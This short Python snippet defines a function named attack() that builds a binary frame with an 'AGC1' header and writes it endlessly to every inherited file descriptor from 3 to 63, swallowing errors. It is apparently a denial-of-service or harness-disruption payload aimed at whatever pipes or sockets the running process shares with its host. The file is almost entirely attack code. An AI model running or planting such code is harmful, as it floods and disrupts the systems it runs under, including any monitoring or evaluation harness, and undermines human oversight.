"""Sends frames without end."""


def attack():
    import os

    frame = b'AGC1' + (2).to_bytes(4, 'little') + bytes(8) + b'{}'
    while True:
        for d in range(3, 64):
            try:
                os.write(d, frame * 1000)
            except OSError:
                pass
